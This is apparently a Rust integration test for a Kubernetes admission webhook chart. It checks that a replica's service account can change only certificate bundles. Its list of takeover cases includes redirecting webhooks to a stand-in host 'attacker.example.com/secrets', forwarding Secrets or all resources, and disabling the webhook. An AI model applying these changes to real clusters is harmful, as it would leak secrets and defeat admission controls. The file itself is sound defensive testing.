//! What somebody can do who has the token of a replica's service account: keep the certificates, and nothing else.

use serde_json::{Value, json};

use super::control_plane::{ControlPlane, Said};
use super::helm::{CHART, Helm};
use super::replica::NAME;

const KINDS: [&str; 2] = ["mutatingwebhookconfiguration", "validatingwebhookconfiguration"];

/// A change to a webhook configuration.
type Change = (&'static str, fn(&mut Value));

/// What would make of the guard a spy, or of no use.
const TAKEOVERS: [Change; 23] = [
    ("asked elsewhere, by URL", |object| {
        object["webhooks"][0]["clientConfig"] = json!({"url": "https://attacker.example.com/secrets"});
    }),
    ("asked elsewhere, by Service", |object| client(object)["service"]["namespace"] = json!("attacker")),
    ("asked under another path", |object| client(object)["service"]["path"] = json!("/elsewhere")),
    ("asked on another port", |object| client(object)["service"]["port"] = json!(8443)),
    ("everything is sent", |object| {
        object["webhooks"][0]["rules"] = json!([{
            "apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"], "scope": "*",
        }]);
    }),
    ("Secrets are sent too", |object| {
        let secrets = json!({
            "apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["secrets"], "scope": "*",
        });
        object["webhooks"][0]["rules"].as_array_mut().unwrap().push(secrets);
    }),
    ("another resource", |object| object["webhooks"][0]["rules"][0]["resources"] = json!(["pods"])),
    ("every namespace", |object| object["webhooks"][0]["namespaceSelector"] = json!({})),
    ("fewer objects", |object| {
        object["webhooks"][0]["objectSelector"] = json!({"matchLabels": {"guarded": "yes"}});
    }),
    ("Fail", |object| object["webhooks"][0]["failurePolicy"] = json!("Fail")),
    ("a shorter timeout", |object| object["webhooks"][0]["timeoutSeconds"] = json!(1)),
    ("another matchPolicy", |object| object["webhooks"][0]["matchPolicy"] = json!("Exact")),
    ("no condition", |object| drop(object["webhooks"][0].as_object_mut().unwrap().remove("matchConditions"))),
    ("another condition", |object| {
        object["webhooks"][0]["matchConditions"][0]["expression"] = json!("false")
    }),
    ("another name", |object| object["webhooks"][0]["name"] = json!("other.jobguard.dev")),
    ("one more", one_more),
    ("none", |object| object["webhooks"] = json!([])),
    ("no list of them", |object| drop(object.as_object_mut().unwrap().remove("webhooks"))),
    ("a label", |object| object["metadata"]["labels"]["app.kubernetes.io/managed-by"] = json!("me")),
    ("no label", |object| drop(object["metadata"].as_object_mut().unwrap().remove("labels"))),
    ("an annotation for an injector", |object| {
        object["metadata"]["annotations"]["cert-manager.io/inject-ca-from"] = json!("attacker/authority");
    }),
    ("a finalizer", |object| object["metadata"]["finalizers"] = json!(["example.com/kept"])),
    ("an owner", |object| {
        object["metadata"]["ownerReferences"] = json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "a", "uid": "11111111-1111-1111-1111-111111111111"}]);
    }),
];

fn one_more(object: &mut Value) {
    let mut more = object["webhooks"][0].clone();
    more["name"] = json!("more.jobguard.dev");
    object["webhooks"].as_array_mut().unwrap().push(more);
}

fn client(object: &mut Value) -> &mut Value {
    &mut object["webhooks"][0]["clientConfig"]
}

/// Kubernetes' own check of the expressions finds nothing to say.
#[test]
fn the_expressions_are_type_checked() {
    let (Some(mut plane), Some(helm)) = (ControlPlane::start(), Helm::find()) else { return };
    if !plane.run_controllers("validatingadmissionpolicy-status-controller") {
        return;
    }
    let applied = plane.kubectl(&["create", "namespace", "guard"], "");
    assert!(applied.ok, "{}", applied.stderr);
    let applied = plane.kubectl(&["apply", "-f", "-"], &helm.template("default", &[]));
    assert!(applied.ok && !applied.stderr.contains("Warning"), "{}", applied.stderr);
    let status = || {
        let policy = "validatingadmissionpolicy/rel-jobguard-account";
        plane.kubectl(&["get", policy, "-o", "jsonpath={.status}"], "").stdout
    };
    plane.until("the policy is checked", || status().contains("observedGeneration"));
    assert!(!status().contains("Warning"), "{}", status());
}

#[test]
fn a_replica_s_account_changes_the_ca_bundle_alone() {
    let (Some(plane), Some(helm)) = (ControlPlane::start(), Helm::find()) else { return };
    let kubeconfig = plane.kubeconfig();
    let installed = helm.run(&[
        "--kubeconfig",
        kubeconfig.to_str().unwrap(),
        "--namespace",
        "guard",
        "install",
        "rel",
        CHART,
        "--create-namespace",
    ]);
    assert!(installed.status.success(), "{}", String::from_utf8_lossy(&installed.stderr));
    let account = plane.kubeconfig_of("guard", NAME);
    let read = |kind: &str| -> Value {
        let said = plane.kubectl(&["get", kind, NAME, "-o", "json"], "");
        serde_json::from_str(&said.stdout).unwrap()
    };
    let changed = |kind: &str, change: &dyn Fn(&mut Value)| {
        let mut object = read(kind);
        change(&mut object);
        object.to_string()
    };
    let as_account = |arguments: &[&str], input: &str| plane.kubectl_as(&account, arguments, input);
    let replace = |object: &str| as_account(&["replace", "--validate=false", "-f", "-"], object);
    let is_denied = |said: &Said| !said.ok && said.stderr.contains("caBundle of webhooks alone");

    // An API server takes a moment to notice a policy.
    let tried = || {
        let arguments = ["replace", "--validate=false", "--dry-run=server", "-f", "-"];
        as_account(&arguments, &changed(KINDS[0], &TAKEOVERS[0].1))
    };
    plane.until("the policy is heeded", || is_denied(&tried()));
    for kind in KINDS {
        for (what, takeover) in TAKEOVERS {
            let said = replace(&changed(kind, &takeover));
            assert!(is_denied(&said), "{kind}: {what}: {}{}", said.stdout, said.stderr);
            // With the right one beside it, too.
            let said = replace(&changed(kind, &|object| {
                client(object)["caBundle"] = json!("eA==");
                takeover(object);
            }));
            assert!(is_denied(&said), "{kind}: {what}: {}{}", said.stdout, said.stderr);
        }
        // Two webhooks, of which one is replaced by the other, or that change places.
        let twice = changed(kind, &one_more);
        let said = plane.kubectl(&["replace", "-f", "-"], &twice);
        assert!(said.ok, "{}", said.stderr);
        for change in [
            (|object| object["webhooks"].as_array_mut().unwrap().swap(0, 1)) as fn(&mut Value),
            |object| drop(object["webhooks"].as_array_mut().unwrap().remove(0)),
            |object| object["webhooks"][1]["clientConfig"] = json!({"url": "https://attacker.example.com/"}),
        ] {
            let said = replace(&changed(kind, &change));
            assert!(is_denied(&said), "{kind}: {}{}", said.stdout, said.stderr);
        }

        // A renewal, of one webhook and of both, and nothing at all.
        for change in [
            (|object| object["webhooks"][1]["clientConfig"]["caBundle"] = json!("eA==")) as fn(&mut Value),
            |object| {
                for webhook in object["webhooks"].as_array_mut().unwrap() {
                    webhook["clientConfig"]["caBundle"] = json!("eQ==");
                }
            },
            |object| drop(client(object).as_object_mut().unwrap().remove("caBundle")),
            |_| {},
        ] {
            let said = replace(&changed(kind, &change));
            assert!(said.ok, "{kind}: {}", said.stderr);
        }
        assert_eq!(read(kind)["webhooks"][1]["clientConfig"]["caBundle"], "eQ==", "it was written");
        // The old one is back, for what follows.
        let said = plane.kubectl(
            &["replace", "-f", "-"],
            &changed(kind, &|object| drop(object["webhooks"].as_array_mut().unwrap().remove(1))),
        );
        assert!(said.ok, "{}", said.stderr);

        // Administrators change what they like.
        for (what, change) in TAKEOVERS {
            let said = plane.kubectl(&["replace", "--dry-run=server", "-f", "-"], &changed(kind, &change));
            assert!(said.ok, "{kind}: {what}: {}", said.stderr);
        }
    }

    // What RBAC leaves it: no other object, and no other verb.
    for (right, granted) in [
        (["get", "secrets/rel-jobguard-ca"], true),
        (["update", "secrets/rel-jobguard-ca"], true),
        (["watch", "secrets/rel-jobguard-ca"], true),
        (["watch", "validatingwebhookconfigurations/rel-jobguard"], true),
        (["watch", "validatingwebhookconfigurations"], false),
        (["watch", "secrets"], false),
        (["list", "secrets/rel-jobguard-ca"], false),
        (["patch", "secrets/rel-jobguard-ca"], false),
        (["delete", "secrets/rel-jobguard-ca"], false),
        (["create", "secrets"], false),
        (["patch", "mutatingwebhookconfigurations/rel-jobguard"], false),
        (["delete", "mutatingwebhookconfigurations/rel-jobguard"], false),
        (["create", "mutatingwebhookconfigurations"], false),
        (["update", "validatingadmissionpolicies/rel-jobguard-account"], false),
        (["delete", "validatingadmissionpolicybindings/rel-jobguard-account"], false),
        (["create", "events"], false),
        (["create", "serviceaccounts/rel-jobguard/token"], false),
        (["impersonate", "users"], false),
        (["get", "configmaps"], false),
        (["create", "leases.coordination.k8s.io"], false),
        (["create", "pods"], false),
    ] {
        let mut arguments = vec!["auth", "can-i", "--namespace", "guard"];
        arguments.extend(right);
        assert_eq!(as_account(&arguments, "").stdout.trim() == "yes", granted, "{right:?}");
    }

    // Rights that somebody gives it besides do not help it here.
    let role = format!(
        r#"{{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {{"name": "too-much"}},
        "roleRef": {{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}},
        "subjects": [{{"kind": "ServiceAccount", "name": "{NAME}", "namespace": "guard"}}]}}"#
    );
    assert!(plane.kubectl(&["create", "-f", "-"], &role).ok);
    plane.until("the account has rights", || as_account(&["get", "nodes"], "").ok);
    for kind in KINDS {
        let said = as_account(&["delete", kind, NAME], "");
        assert!(
            !said.ok && said.stderr.contains("neither create nor delete"),
            "{}{}",
            said.stdout,
            said.stderr
        );
        let another = changed(kind, &|object| {
            object["metadata"] = json!({"name": "another"});
        });
        let said = as_account(&["create", "-f", "-"], &another);
        assert!(
            !said.ok && said.stderr.contains("neither create nor delete"),
            "{}{}",
            said.stdout,
            said.stderr
        );
        assert!(plane.kubectl(&["create", "--dry-run=server", "-f", "-"], &another).ok);
    }
    assert!(plane.kubectl(&["delete", "clusterrolebinding", "too-much"], "").ok);

    // It is the policy that does this: without it, the account could take over.
    let binding = format!("{NAME}-account");
    assert!(plane.kubectl(&["delete", "validatingadmissionpolicybinding", &binding], "").ok);
    plane.until("the policy is heeded no more", || replace(&changed(KINDS[0], &TAKEOVERS[0].1)).ok);
    assert_eq!(client(&mut read(KINDS[0]))["url"], "https://attacker.example.com/secrets");
}
